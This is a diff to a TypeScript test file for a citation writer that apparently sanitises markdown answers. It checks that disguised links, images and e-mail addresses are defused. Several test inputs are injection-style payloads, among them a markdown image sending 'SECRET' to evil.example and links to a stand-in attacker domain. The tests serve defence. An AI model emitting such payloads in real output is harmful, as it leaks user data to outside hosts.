@@ -1,17 +1,18 @@
 import { describe, expect, test } from "bun:test";
-import { createCitationWriter, withoutCitations } from "../../src/answer/citations.ts";
+import { createCitationWriter, withoutCitations } from "../../src/answer/citations/citations.ts";
 
 const PASSAGES = [
   { number: 1, url: "https://docs.example/guide/install#linux", path: "guide/install" },
   { number: 2, url: "https://docs.example/config", path: "config" },
   { number: 3, url: "https://docs.example/guide/keys#rotate", path: "guide/keys" },
 ];
+const MAILBOXES = ["help@docs.example"];
 const LINK1 = "[[1]](https://docs.example/guide/install#linux)";
 const LINK2 = "[[2]](https://docs.example/config)";
 const LINK3 = "[[3]](https://docs.example/guide/keys#rotate)";
 
 function writeAll(pieces: string[]): { text: string; cited: number[] } {
-  const writer = createCitationWriter(PASSAGES);
+  const writer = createCitationWriter(PASSAGES, MAILBOXES);
   const text = pieces.map((piece) => writer.write(piece)).join("") + writer.end();
   return { text, cited: writer.cited() };
 }
@@ -93,7 +94,7 @@ const CASES: [name: string, written: string, read: string, cited: number[]][] = 
   [
     "an image by reference is none",
     "![x][y]\n\n[y]: //evil.example/p.png",
-    "![x][y]\n\n\\[y]: //evil.example/p.png",
+    "![x][y]\n\n[y\\]: `//evil.example/p.png`",
     [],
   ],
   [
@@ -130,8 +131,79 @@ const CASES: [name: string, written: string, read: string, cited: number[]][] = 
     `Yes ${LINK1}.\n\nEnd`,
     [1],
   ],
-  ["code of a quote ends with the quote", "> ```\n> [1]\n[2]", `> \`\`\`\n> [1]\n${LINK2}`, [2]],
-  ["code of a list item ends with the item", "- a\n  ```\n  [1]\n[2]", `- a\n  \`\`\`\n  [1]\n${LINK2}`, [2]],
+  ["code of a quote ends with the quote", "> ```\n> [1]\n[2]", `> \`\`\`\n> [1]\n> \`\`\`\n${LINK2}`, [2]],
+  [
+    "code of a list item ends with the item",
+    "- a\n  ```\n  [1]\n[2]",
+    `- a\n  \`\`\`\n  [1]\n  \`\`\`\n${LINK2}`,
+    [2],
+  ],
+  [
+    "an address beside a code span is a span of its own",
+    "As ``a ![p](http://evil.example/?q=SECRET) ``http://x.example",
+    "As ``a ![p](http://evil.example/?q=SECRET) `` `http://x.example`",
+    [],
+  ],
+  ["what stands around a number that goes makes no tag", "<[7]img src=x>", "\\<img src=x>", []],
+  ["nor an address", "htt[7]ps://x.example www[7].x.example", "htt ps://x.example www`.`x.example", []],
+  ["nor a link", "[x]![](u)(/evil) [y]【7】: /evil", "[x] (/evil) [y] : /evil", []],
+  ["nor code", "``a``[7]`b`", "``a`` `b`", []],
+  [
+    "nor a gap in words that are marked",
+    "**[x](http://x.example)** _[y](http://x.example)_",
+    "**x** _y_",
+    [],
+  ],
+  ["nor a gap in a script without spaces", "请看[7]这里[7]。", "请看这里。", []],
+  [
+    "an address that hides behind an escape or an entity is none",
+    "https\\://x.example &#104;ttps://x.example www\\.x.example xhttps://x.example",
+    "https`:` `//x.example` `h`ttps://x.example www`.`x.example xhttps`://`x.example",
+    [],
+  ],
+  [
+    "an address without a scheme is code as well",
+    "See //x.example/a, and/or",
+    "See `//x.example/a`, and/or",
+    [],
+  ],
+  [
+    "a backslash before what becomes code does not escape it",
+    "\\http://x.example",
+    "\\\\`http://x.example`",
+    [],
+  ],
+  [
+    "an e-mail address that the docs do not name is code from its @ on",
+    "Ask eve@evil.example or @eve, version 2@3.",
+    "Ask eve`@evil.example` or @eve, version 2@3.",
+    [],
+  ],
+  [
+    "one that they name may be a link",
+    "Ask Help@docs.example, [us](mailto:help@docs.example), [them](mailto:eve@evil.example).",
+    "Ask Help@docs.example, [us](mailto:help@docs.example), them.",
+    [],
+  ],
+  [
+    "one that only begins like theirs is code",
+    "help@docs.example.evil.example xhelp@docs.example help@docs.exampleé",
+    "help`@docs.example.evil.example` xhelp`@docs.example` help`@docs.exampleé`",
+    [],
+  ],
+  ["a task's box is left as it is", "- [ ] one\n- [x] two", "- [ ] one\n- [x] two", []],
+  [
+    "code in a numbered step is left as it is",
+    "1. a\n   ```js\n   b[1]\n   ```\n2. c:\n\n   ```\n   d\n   ```\n10. e\n    ```\n    f\n    ```",
+    "1. a\n   ```js\n   b[1]\n   ```\n2. c:\n\n   ```\n   d\n   ```\n10. e\n    ```\n    f\n    ```",
+    [],
+  ],
+  [
+    "marks that not every client takes for code are words",
+    "a\n2. b\n\n       ```\n       [1]",
+    `a\n2. b\n\n       \\\`\\\`\\\`\n       ${LINK1}`,
+    [1],
+  ],
 ];
 
 describe("citations", () => {
@@ -148,7 +220,7 @@ describe("citations", () => {
   }
 
   test("text without marks is passed on at once", () => {
-    const writer = createCitationWriter(PASSAGES);
+    const writer = createCitationWriter(PASSAGES, MAILBOXES);
     expect(writer.write("Hello, ")).toBe("Hello, ");
     expect(writer.write("world")).toBe("world");
   });
@@ -160,7 +232,7 @@ describe("citations", () => {
   });
 
   test("a bracket that never closes is not waited for without end", () => {
-    const writer = createCitationWriter(PASSAGES);
+    const writer = createCitationWriter(PASSAGES, MAILBOXES);
     const text = writer.write(`[${"a".repeat(5000)}`);
     expect(text.length).toBeGreaterThan(4000);
   });
